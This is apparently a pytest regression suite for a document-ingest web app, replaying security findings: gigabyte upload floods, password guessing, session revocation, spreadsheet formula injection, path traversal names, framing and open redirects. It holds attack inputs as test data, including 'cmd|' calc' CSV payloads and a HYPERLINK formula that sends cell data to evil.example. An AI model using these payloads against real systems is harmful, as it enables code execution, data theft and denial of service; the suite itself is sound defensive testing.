"""The web app under attack (issue 14): each test is one finding of the probe, replayed over HTTP against the
real server (`ingest web`), or in Chromium where the browser is what matters. Every one of them failed on
the code before the fix."""

from __future__ import annotations

import contextlib
import csv
import io
import os
import re
import select
import socket
import sqlite3
import statistics
import subprocess
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from http.cookiejar import CookieJar
from pathlib import Path
from types import SimpleNamespace

import pytest

from tests.web.conftest import Site, serve_process, sign_in
from tests.web.test_security import _client, _NoRedirect, signed_in_client

MB = 1 << 20
BOUNDARY = "----attack7MA4YWxkTrZu0gW"
SECURITY_HEADERS = {
    "x-frame-options": "DENY",
    "x-content-type-options": "nosniff",
    "referrer-policy": "same-origin",
}


@pytest.fixture(scope="module")
def plain(site: Site) -> Iterator[tuple[str, subprocess.Popen, Path]]:
    """A second server on the same data, default limits, its temp dir where we can see it."""
    tmp = site.data / "tmp-plain"
    tmp.mkdir(exist_ok=True)
    with serve_process(site.data, settings={"TMPDIR": str(tmp)}) as (url, proc):
        yield url, proc, tmp


@pytest.fixture(scope="module")
def small(site: Site) -> Iterator[tuple[str, subprocess.Popen, Path]]:
    """A server whose uploads may be 1 MB a file, 2 MB a request."""
    tmp = site.data / "tmp-small"
    tmp.mkdir(exist_ok=True)
    settings = {"TMPDIR": str(tmp), "INGEST_WEB_MAX_UPLOAD_MB": "1", "INGEST_WEB_MAX_REQUEST_MB": "2"}
    with serve_process(site.data, settings=settings) as (url, proc):
        yield url, proc, tmp


# ---------------------------------------------------------------- HTTP helpers


def _fetch(
    opener: urllib.request.OpenerDirector,
    url: str,
    data: dict | bytes | None = None,
    headers: dict[str, str] | None = None,
    timeout: float = 60,
) -> tuple[int, dict[str, str], bytes]:
    body = urllib.parse.urlencode(data).encode() if isinstance(data, dict) else data
    request = urllib.request.Request(url, data=body, headers=headers or {})
    try:
        with opener.open(request, timeout=timeout) as res:
            return res.status, {k.lower(): v for k, v in res.headers.items()}, res.read()
    except urllib.error.HTTPError as err:
        return err.code, {k.lower(): v for k, v in err.headers.items()}, err.read()


def _login_token(opener: urllib.request.OpenerDirector, url: str) -> str:
    page = _fetch(opener, url + "/login")[2].decode()
    found = re.search(r'name="csrf_token" value="([^"]+)"', page)
    assert found
    return found.group(1)


def _try_login(
    url: str, user: str, password: str, address: str, headers: dict[str, str] | None = None
) -> tuple[int, dict[str, str], float]:
    """One sign-in from `address` (uvicorn takes X-Forwarded-For from a local proxy): status, headers, s."""
    opener = _client()
    token = _login_token(opener, url)
    start = time.monotonic()
    code, head, _ = _fetch(
        opener,
        url + "/login",
        {"username": user, "password": password, "csrf_token": token},
        {"X-Forwarded-For": address, **(headers or {})},
    )
    return code, head, time.monotonic() - start


def _add_user(site: Site, name: str, password: str, role: str = "operator", disabled: bool = False) -> int:
    from models.cli import hash_password

    with sqlite3.connect(site.data / "ingest.sqlite") as db:
        cur = db.execute(
            "insert into user (username, password_hash, role, disabled, created_at) values "
            "(?, ?, ?, ?, datetime('now'))",
            (name, hash_password(password), role, disabled),
        )
        return int(cur.lastrowid or 0)


def _query(site: Site, sql: str, *args: object) -> list[tuple]:
    with sqlite3.connect(site.data / "ingest.sqlite") as db:
        return db.execute(sql, args).fetchall()


def _document(site: Site, report: str) -> int:
    return int(_query(site, "select document_id from report where id = ?", site.reports[report])[0][0])


def _csrf_of(opener: urllib.request.OpenerDirector, url: str) -> str:
    found = re.search(r'name="csrf-token" content="([^"]+)"', _fetch(opener, url + "/")[2].decode())
    assert found
    return found.group(1)


def _sign_in_at(url: str, user: str, password: str) -> tuple[urllib.request.OpenerDirector, str, CookieJar]:
    jar = CookieJar()
    opener = urllib.request.build_opener(_NoRedirect(), urllib.request.HTTPCookieProcessor(jar))
    token = _login_token(opener, url)
    code, head, _ = _fetch(
        opener, url + "/login", {"username": user, "password": password, "csrf_token": token}
    )
    assert (code, head.get("location")) == (303, "/")
    return opener, _csrf_of(opener, url), jar


def _multipart(fields: list[tuple[str, str | None, bytes]]) -> bytes:
    """(name, filename or None, content) parts, in this order."""
    out = io.BytesIO()
    for name, filename, content in fields:
        disposition = f'form-data; name="{name}"' + (
            f'; filename="{filename}"' if filename is not None else ""
        )
        out.write(f"--{BOUNDARY}\r\nContent-Disposition: {disposition}\r\n".encode())
        if filename is not None:
            out.write(b"Content-Type: application/octet-stream\r\n")
        out.write(b"\r\n" + content + b"\r\n")
    out.write(f"--{BOUNDARY}--\r\n".encode())
    return out.getvalue()


def _upload(
    opener: urllib.request.OpenerDirector, url: str, token: str | None, files: list[tuple[str, bytes]]
) -> tuple[int, dict[str, str], bytes]:
    fields = ([("csrf_token", None, token.encode())] if token else []) + [("files", n, c) for n, c in files]
    return _fetch(
        opener,
        url + "/documents/upload",
        _multipart(fields),
        {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"},
    )


# ---------------------------------------------------------------- what the server writes, and its memory


def _written(pid: int, dirs: list[Path]) -> int:
    """Bytes in files under `dirs`, plus files the server holds open (an unlinked spool file is visible
    only through /proc/<pid>/fd)."""
    total = 0
    for root in dirs:
        for base, _dirs, names in os.walk(root):
            for name in names:
                with contextlib.suppress(FileNotFoundError):  # a temp file renamed or removed meanwhile
                    total += (Path(base) / name).stat().st_size
    fd_dir = Path(f"/proc/{pid}/fd")
    for fd in fd_dir.iterdir() if fd_dir.exists() else []:
        try:
            target = os.readlink(fd)
            if target.endswith("(deleted)"):  # an open file already unlinked: a spool
                total += os.stat(fd).st_size
        except OSError:
            pass
    return total


def _rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise AssertionError("no VmRSS")


class _Watch:
    """Samples a number every few ms in a thread; `peak` is the largest seen."""

    def __init__(self, measure: Callable[[], float]) -> None:
        self.measure, self.peak, self.stop = measure, measure(), threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self.stop.is_set():
            self.peak = max(self.peak, self.measure())
            time.sleep(0.02)

    def __enter__(self) -> _Watch:
        self.thread.start()
        return self

    def __exit__(self, *_exc: object) -> None:
        self.stop.set()
        self.thread.join()
        self.peak = max(self.peak, self.measure())


def _gigabyte_upload(token: str = "") -> Iterator[bytes]:
    """A 1 GiB multipart upload, made as it is sent."""
    head = f"--{BOUNDARY}\r\n"
    if token:
        head += f'Content-Disposition: form-data; name="csrf_token"\r\n\r\n{token}\r\n--{BOUNDARY}\r\n'
    yield (
        head + 'Content-Disposition: form-data; name="files"; filename="big.pdf"\r\n'
        "Content-Type: application/pdf\r\n\r\n"
    ).encode()
    chunk = b"%PDF" + b"\0" * (MB - 4)
    for _ in range(1024):
        yield chunk
    yield f"\r\n--{BOUNDARY}--\r\n".encode()


def _stream_post(
    url: str, path: str, body: Iterator[bytes], headers: dict[str, str], give_up: Callable[[], bool]
) -> tuple[int, int]:
    """POST `body` chunked over a raw socket until the server answers or hangs up (or `give_up`): the
    response status (0: none) and the bytes sent."""
    host, port = urllib.parse.urlsplit(url).netloc.split(":")
    head = (
        f"POST {path} HTTP/1.1\r\nHost: {host}:{port}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n"
    )
    head += "".join(f"{k}: {v}\r\n" for k, v in headers.items()) + "\r\n"
    sent = 0
    with socket.create_connection((host, int(port)), timeout=10) as sock:
        sock.sendall(head.encode())
        sock.settimeout(1)
        for chunk in body:
            if select.select([sock], [], [], 0)[0] or give_up():
                break
            try:
                sock.sendall(f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n")
            except TimeoutError:  # the server stopped reading: see whether it answered
                continue
            except OSError:  # it hung up
                break
            sent += len(chunk)
        sock.settimeout(10)
        reply = b""
        try:
            while b"\r\n" not in reply:
                data = sock.recv(4096)
                if not data:
                    break
                reply += data
        except OSError:
            pass
    status = re.match(rb"HTTP/1\.[01] (\d{3})", reply)
    return (int(status.group(1)) if status else 0), sent


# ---------------------------------------------------------------- 1. anonymous disk fill


def test_anonymous_gigabyte_post_is_refused_before_a_megabyte_is_written(site: Site, plain) -> None:  # type: ignore[no-untyped-def]
    url, proc, tmp = plain
    dirs = [tmp, site.data / "inbox"]
    base = _written(proc.pid, dirs)
    with _Watch(lambda: _written(proc.pid, dirs) - base) as grown:
        status, sent = _stream_post(
            url,
            "/documents/upload",
            _gigabyte_upload(),
            {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"},
            give_up=lambda: grown.peak >= MB,
        )
    print(
        f"\nanonymous 1 GiB POST: answered {status} after {sent / MB:.1f} MB sent, {grown.peak} bytes written"
    )
    assert grown.peak < MB, f"{grown.peak} bytes written for an anonymous upload"
    assert status in (303, 401, 403, 413)
    # Announced as 1 GiB up front: refused on the header alone.
    code, _, _ = _fetch(
        _client(),
        url + "/documents/upload",
        b"x" * 10,
        {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"},
    )
    assert code in (303, 401, 403, 413)


def test_file_before_a_valid_csrf_token_is_refused_before_it_is_written(site: Site, plain) -> None:  # type: ignore[no-untyped-def]
    url, proc, tmp = plain
    _opener, token, jar = _sign_in_at(url, "olga", "operator-pass-1")
    cookie = "; ".join(f"{c.name}={c.value}" for c in jar)
    dirs = [tmp, site.data / "inbox"]
    base = _written(proc.pid, dirs)
    with _Watch(lambda: _written(proc.pid, dirs) - base) as grown:
        status, _ = _stream_post(
            url,
            "/documents/upload",
            _gigabyte_upload(token[:-3] + "abc"),
            {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}", "Cookie": cookie},
            give_up=lambda: grown.peak >= MB,
        )
    assert grown.peak < MB and status == 403


def test_upload_over_the_file_limit_is_refused_and_leaves_nothing(site: Site, small) -> None:  # type: ignore[no-untyped-def]
    url, proc, tmp = small
    opener, token, _jar = _sign_in_at(url, "olga", "operator-pass-1")
    folder = site.data / "inbox/web/olga"
    before = set(folder.glob("*")) if folder.exists() else set()
    spooled = _written(proc.pid, [tmp])
    code, _, _ = _upload(
        opener, url, token, [("fine.pdf", b"%PDF" + b"0" * 1000), ("huge.pdf", b"0" * (MB + 10))]
    )
    assert code == 413
    assert set(folder.glob("*")) == before  # neither file kept, no .upload-*.part left behind
    assert _written(proc.pid, [tmp]) == spooled
    code, _, _ = _upload(
        opener, url, token, [("three.pdf", b"0" * (MB - 100))] * 3
    )  # 3 MB: over the request cap
    assert code == 413 and set(folder.glob("*")) == before
    code, _, _ = _upload(opener, url, token, [("fine.pdf", b"%PDF" + b"0" * 1000)])
    assert code == 303 and len(set(folder.glob("*")) - before) == 1


# ---------------------------------------------------------------- 2. guessing passwords


def test_wrong_passwords_for_one_account_are_throttled(site: Site) -> None:
    _add_user(site, "tina", "tina-secret-pw")
    codes = [_try_login(site.url, "tina", f"guess-{i}", f"10.1.0.{i}")[0] for i in range(5)]
    assert codes == [401] * 5
    code, head, _ = _try_login(site.url, "tina", "guess-6", "10.1.0.9")
    assert code == 429 and int(head["retry-after"]) >= 1
    # While it lasts, even the right password waits (a guesser cannot tell it was right).
    assert _try_login(site.url, "tina", "tina-secret-pw", "10.1.0.10")[0] == 429
    # Another account from the same address is not held up.
    assert _try_login(site.url, "olga", "operator-pass-1", "10.1.0.9")[0] == 303


def test_wrong_passwords_from_one_address_are_throttled(site: Site) -> None:
    codes = [_try_login(site.url, f"nobody{i}", "guess", "10.2.0.1")[0] for i in range(20)]
    assert codes == [401] * 20
    code, head, _ = _try_login(site.url, "nobody-else", "guess", "10.2.0.1")
    assert code == 429 and int(head["retry-after"]) >= 1
    assert _try_login(site.url, "olga", "operator-pass-1", "10.2.0.2")[0] == 303  # other addresses are not


def test_unknown_and_disabled_names_take_as_long_as_known_ones(site: Site) -> None:
    _add_user(site, "kim", "kim-secret-pw")
    _add_user(site, "dora", "dora-secret-pw", disabled=True)

    def median(user: str, password: str, net: int) -> float:
        return statistics.median(_try_login(site.url, user, password, f"10.3.{net}.{i}")[2] for i in range(4))

    known, unknown = median("kim", "wrong-pw", 1), median("no-such-user", "wrong-pw", 2)
    disabled = median("dora", "dora-secret-pw", 3)
    print(
        f"\nsign-in time: known {known * 1000:.0f} ms, unknown {unknown * 1000:.0f} ms, "
        f"disabled {disabled * 1000:.0f} ms"
    )
    assert 0.5 < known / unknown < 2 and 0.5 < known / disabled < 2


def test_forty_concurrent_wrong_sign_ins_stay_small_and_others_are_served(site: Site, plain) -> None:  # type: ignore[no-untyped-def]
    url, proc, _tmp = plain
    opener, _token, _jar = _sign_in_at(url, "olga", "operator-pass-1")
    base = _rss_mb(proc.pid)
    pages: list[tuple[int, float]] = []

    def other_user() -> None:
        for _ in range(5):
            start = time.monotonic()
            pages.append((_fetch(opener, url + "/documents")[0], time.monotonic() - start))
            time.sleep(0.3)

    # Known names (8 accounts x their 5 free failures), each guess from its own address: no throttle
    # applies, every one of the 40 is a real argon2 verification (64 MiB each).
    from models.cli import hash_password

    password_hash = hash_password("flood-secret-pw")
    with sqlite3.connect(site.data / "ingest.sqlite") as db:
        db.executemany(
            "insert into user (username, password_hash, role, disabled, created_at) values "
            "(?, ?, 'operator', 0, datetime('now'))",
            [(f"flood{i}", password_hash) for i in range(8)],
        )
    guesses = [(f"flood{i % 8}", f"10.4.0.{i}") for i in range(40)]
    with _Watch(lambda: _rss_mb(proc.pid)) as rss, ThreadPoolExecutor(40) as pool:
        start = time.monotonic()
        futures = [pool.submit(_try_login, url, name, "wrong-pw", address) for name, address in guesses]
        time.sleep(0.5)
        other_user()
        codes = [f.result()[0] for f in futures]
        took = time.monotonic() - start
    print(
        f"\n40 wrong sign-ins at once: RSS {base:.0f} -> peak {rss.peak:.0f} MB, {took:.1f} s; "
        f"other user's pages {[f'{s:.2f}s' for _, s in pages]}; answers {sorted(set(codes))}"
    )
    assert rss.peak < 500
    # 503 + Retry-After: a guess that found no free hash slot within signin.HASH_WAIT (load shed, not served).
    assert set(codes) <= {401, 503} and codes.count(401) >= 10
    assert [c for c, _ in pages] == [200] * 5 and max(s for _, s in pages) < 5  # was 30 s


# ---------------------------------------------------------------- 3. sessions that end


def _session_cookie(jar: CookieJar) -> str:
    return next(c.value for c in jar if c.name == "ingest_session")  # type: ignore[misc]


def _with_cookie(url: str, cookie: str) -> int:
    return _fetch(_client(), url, headers={"Cookie": f"ingest_session={cookie}"})[0]


def test_sign_out_ends_a_copied_cookie(site: Site) -> None:
    opener, token, jar = _sign_in_at(site.url, "olga", "operator-pass-1")
    copied = _session_cookie(jar)
    assert _with_cookie(site.url + "/account", copied) == 200
    assert _fetch(opener, site.url + "/logout", {"csrf_token": token})[0] == 303
    assert _with_cookie(site.url + "/account", copied) == 303
    assert _with_cookie(site.url + "/export?fmt=csv", copied) == 401


def test_disabling_a_user_ends_their_copied_cookie(site: Site) -> None:
    uid = _add_user(site, "paul", "paul-secret-pw")
    _opener, _token, jar = _sign_in_at(site.url, "paul", "paul-secret-pw")
    admin, admin_token, _ = _sign_in_at(site.url, "adam", "admin-pass-12")
    assert _fetch(admin, f"{site.url}/users/{uid}/disable", {"csrf_token": admin_token})[0] == 303
    assert _with_cookie(site.url + "/account", _session_cookie(jar)) == 303
    assert _fetch(admin, f"{site.url}/users/{uid}/enable", {"csrf_token": admin_token})[0] == 303
    assert _with_cookie(site.url + "/account", _session_cookie(jar)) == 303  # enabling revives nothing


def test_a_session_ends_after_its_lifetime_however_busy(site: Site) -> None:
    with serve_process(site.data, settings={"INGEST_WEB_SESSION_HOURS": "0.001"}) as (url, _proc):  # 4 s
        opener, _token, _jar = _sign_in_at(url, "olga", "operator-pass-1")
        codes = []
        for _ in range(7):  # a request every second: never idle
            codes.append(_fetch(opener, url + "/account")[0])
            time.sleep(1)
    assert codes[0] == 200 and codes[-1] == 303, codes


def test_cookie_is_secure_behind_an_https_proxy(site: Site) -> None:
    for proto, secure in (("https", True), ("http", False)):
        opener = _client()
        token = _login_token(opener, site.url)
        _code, head, _ = _fetch(
            opener,
            site.url + "/login",
            {"username": "olga", "password": "operator-pass-1", "csrf_token": token},
            {"X-Forwarded-Proto": proto},
        )
        assert head["set-cookie"].startswith("ingest_session=")
        assert ("; secure" in head["set-cookie"].lower()) is secure, head["set-cookie"]


def test_sign_in_issues_a_new_csrf_token(site: Site) -> None:
    opener = _client()
    before = _login_token(opener, site.url)
    code, _, _ = _fetch(
        opener, site.url + "/login", {"username": "olga", "password": "operator-pass-1", "csrf_token": before}
    )
    assert code == 303
    assert _csrf_of(opener, site.url) != before
    assert _fetch(opener, site.url + "/logout", {"csrf_token": before})[0] == 403  # the old one is dead


# ---------------------------------------------------------------- 4. exports that are data

PAYLOADS = [
    "=1+1+cmd|' -C calc'!A0.txt",
    "+1+1+cmd|' /C calc'!A0.pdf",
    "-2+3+cmd|' /C calc'!A0.pdf",
    "@SUM(1+1)*cmd|' /C calc'!A0.pdf",
    "\t=1+1.pdf",
    "\r=1+1.pdf",
]


def _export(opener: urllib.request.OpenerDirector, url: str, fmt: str, long: bool) -> bytes:
    code, _, body = _fetch(opener, f"{url}/export?fmt={fmt}&long={str(long).lower()}")
    assert code == 200
    return body


def _csv_cells(body: bytes, column: str) -> list[str]:
    return [row[column] for row in csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline=""))]


def _xlsx_cells(body: bytes, *columns: str) -> list[tuple[object, str]]:
    """(value, data type) of every cell under a header named one of `columns`, in every sheet (the wide
    workbook has a sheet per template, with headers for people)."""
    import openpyxl

    cells = []
    for sheet in openpyxl.load_workbook(io.BytesIO(body)).worksheets:
        rows = list(sheet.iter_rows())
        headers = [c.value for c in rows[0]] if rows else []
        for at in [i for i, h in enumerate(headers) if h in columns]:
            cells += [(r[at].value, r[at].data_type) for r in rows[1:]]
    assert cells, f"no column named {columns}"
    return cells


@pytest.mark.parametrize("payload", PAYLOADS)
def test_upload_names_that_look_like_formulas_are_exported_as_text(site: Site, payload: str) -> None:
    doc = _document(site, "pdf")
    with sqlite3.connect(site.data / "ingest.sqlite") as db:
        db.execute("update document set original_name = ? where id = ?", (payload, doc))
    opener, _token = signed_in_client(site)
    for long in (False, True):
        cells = _csv_cells(_export(opener, site.url, "csv", long), "original_name")
        assert "'" + payload in cells and payload not in cells
        values = _xlsx_cells(
            _export(opener, site.url, "xlsx", long), "original_name", "文件", "文件名", "file"
        )
        assert (payload, "s") in values  # a string cell: Excel shows it, never runs it


def test_a_formula_typed_as_a_correction_is_exported_as_text(site: Site) -> None:
    field = _query(
        site, "select id from field where report_id = ? and key = 'meta.agency'", site.reports["seed002"]
    )
    opener, token = signed_in_client(site)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    assert (
        _fetch(
            opener,
            f"{site.url}/fields/{field[0][0]}/decide",
            {"decision": "corrected", "value": formula, "csrf_token": token},
        )[0]
        == 303
    )
    assert "'" + formula in _csv_cells(_export(opener, site.url, "csv", True), "value")
    assert (formula, "s") in _xlsx_cells(_export(opener, site.url, "xlsx", True), "value")


def test_text_corrections_keep_their_commas(site: Site) -> None:
    field = _query(
        site, "select id from field where report_id = ? and key = 'meta.agency'", site.reports["pdf"]
    )
    opener, token = signed_in_client(site)
    typed = "某市人民政府办公室,信息公开科，第一组"
    assert (
        _fetch(
            opener,
            f"{site.url}/fields/{field[0][0]}/decide",
            {"decision": "corrected", "value": typed, "csrf_token": token},
        )[0]
        == 303
    )
    new = _query(site, "select new from correction where field_id = ? order by id desc limit 1", field[0][0])
    assert new[0][0] == typed


# ---------------------------------------------------------------- 5. names and numbers at the edge


def test_admins_cannot_create_path_like_user_names(site: Site) -> None:
    admin, token, _ = _sign_in_at(site.url, "adam", "admin-pass-12")
    for name in ("../../../../tmp/x/evil", ".hidden", "a/b", "x.part"):
        _fetch(
            admin,
            site.url + "/users",
            {"username": name, "password": "long-enough-pw", "role": "operator", "csrf_token": token},
        )
        assert not _query(site, "select id from user where username = ?", name), name


def test_uploads_of_an_old_odd_account_stay_inside_the_inbox(site: Site) -> None:
    uid = _add_user(site, "../../escaped", "escape-secret-pw")  # made before names were checked
    opener, token, _ = _sign_in_at(site.url, "../../escaped", "escape-secret-pw")
    assert _upload(opener, site.url, token, [("a.pdf", b"%PDF-1.4 test")])[0] == 303
    assert not (site.data / "escaped").exists()
    assert (site.data / f"inbox/web/user-{uid}/a.pdf").exists()


ODD_NAMES = [
    "..\\..\\x.txt",
    ".hidden.pdf",
    "a" * 300 + ".pdf",
    "年报" * 120 + ".docx",
    "report.part",
    "~$lock.docx",
    "Thumbs.db",
    "x.reason.txt",
    "bad\x01name.pdf",
    "..",
]


def test_odd_upload_names_become_names_the_watcher_takes(site: Site) -> None:
    from worker.watcher import Inbox

    opener, token = signed_in_client(site)
    folder = site.data / "inbox/web/olga"
    before = set(folder.glob("*")) if folder.exists() else set()
    code, _, body = _upload(opener, site.url, token, [(n, b"%PDF-1.4 " + n.encode()) for n in ODD_NAMES])
    assert code == 303, body[:300]
    new = set(folder.glob("*")) - before
    assert len(new) == len(ODD_NAMES)  # each one kept, none lost, no temp file left
    inbox = Inbox(SimpleNamespace(inbox=site.data / "inbox"))  # type: ignore[arg-type]
    assert [p.name for p in new if inbox.ignored(p) or len(p.name.encode()) > 255] == []
    assert {p.read_bytes()[9:] for p in new} == {n.encode() for n in ODD_NAMES}


def test_page_numbers_outside_the_document_are_404(site: Site) -> None:
    doc = _document(site, "pdf")
    pages = int(_query(site, "select pages from document where id = ?", doc)[0][0])
    opener, _token = signed_in_client(site)
    assert _fetch(opener, f"{site.url}/documents/{doc}/pages/1.png")[0] == 200
    cache = site.data / "web_cache"
    renders = len(list(cache.glob("*.png")))
    for page in (-1, -7, 0, pages + 1, 10**6, 10**30):
        assert _fetch(opener, f"{site.url}/documents/{doc}/pages/{page}.png")[0] in (404, 422), page
    assert len(list(cache.glob("*.png"))) == renders  # nothing rendered, nothing cached


def test_the_original_scan_is_never_served(site: Site) -> None:
    doc = _document(site, "scan")
    opener, _token = signed_in_client(site)
    assert _fetch(opener, f"{site.url}/documents/{doc}/pages/1.png")[0] == 200  # the cleaned, upright page
    for page in (0, -1, 2):
        assert _fetch(opener, f"{site.url}/documents/{doc}/pages/{page}.png")[0] == 404, page


# ---------------------------------------------------------------- 6. headers, files, query strings


@pytest.mark.parametrize("path", ["/login", "/static/app.css", "/no-such-page", "/documents/1/pages/1.png"])
def test_every_response_has_the_security_headers(site: Site, path: str) -> None:
    _code, head, _ = _fetch(_client(), site.url + path)
    assert "default-src 'self'" in head["content-security-policy"]
    assert "frame-ancestors 'none'" in head["content-security-policy"]
    assert {k: head.get(k) for k in SECURITY_HEADERS} == SECURITY_HEADERS


def test_the_app_cannot_be_framed_and_its_pages_run_under_the_policy(page, site: Site) -> None:  # type: ignore[no-untyped-def]
    violations: list[str] = []
    page.on(
        "console", lambda msg: violations.append(msg.text) if "Content Security Policy" in msg.text else None
    )
    sign_in(page, site)
    page.goto(f"{site.url}/reports/{site.reports['seed001']}")
    page.locator("td.cell[data-field-id]").first.click()
    page.wait_for_selector("#panel *")
    page.goto(f"{site.url}/review")
    page.keyboard.press("j")  # the queue's keyboard script runs under the policy
    page.wait_for_url(re.compile(r"pos=1"))
    assert violations == []
    # Framed by another site (another origin on this machine): Chromium refuses to show the app inside it.
    with _attacker_site(f'<iframe id="f" src="{site.url}/login" width="600" height="400"></iframe>') as evil:
        page.goto(evil)
        framed = page.wait_for_selector("#f").content_frame()
        assert framed is not None
        framed.wait_for_load_state("load")
        assert framed.locator("input[name=password]").count() == 0, framed.url


@contextlib.contextmanager
def _attacker_site(html: str) -> Iterator[str]:
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = html.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Page)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()


def test_the_database_file_is_private(site: Site) -> None:
    for name in ("ingest.sqlite", "ingest.sqlite-wal", "ingest.sqlite-shm"):
        path = site.data / name
        if path.exists():
            assert path.stat().st_mode & 0o777 == 0o600, name


ODD_QUERIES = [
    "/documents?year=" + urllib.parse.quote("²⁰²⁰"),
    "/documents?year=%00",
    "/documents?q=%00abc",
    "/documents?page=" + "9" * 30,
    "/documents?page=-3",
    "/reports/" + "9" * 30,
    "/review?report=" + "9" * 30,
    "/review?pos=-5",
    "/fields/" + "9" * 30 + "/panel",
    "/fields/-1/crop.png",
    "/export?fmt=csv&long=maybe",
    "/login?next=/%5Cevil.example",
    "/documents?status=%ff%fe",
]


def test_odd_query_strings_never_give_500(site: Site) -> None:
    opener, _token = signed_in_client(site)
    answers = {path: _fetch(opener, site.url + path)[0] for path in ODD_QUERIES}
    assert {p: c for p, c in answers.items() if c >= 500} == {}


def test_sign_in_never_redirects_off_site(site: Site) -> None:
    opener = _client()
    token = _login_token(opener, site.url)
    _code, head, _ = _fetch(
        opener,
        site.url + "/login",
        {"username": "olga", "password": "operator-pass-1", "csrf_token": token, "next": "/\\evil.example"},
    )
    assert head["location"] == "/"
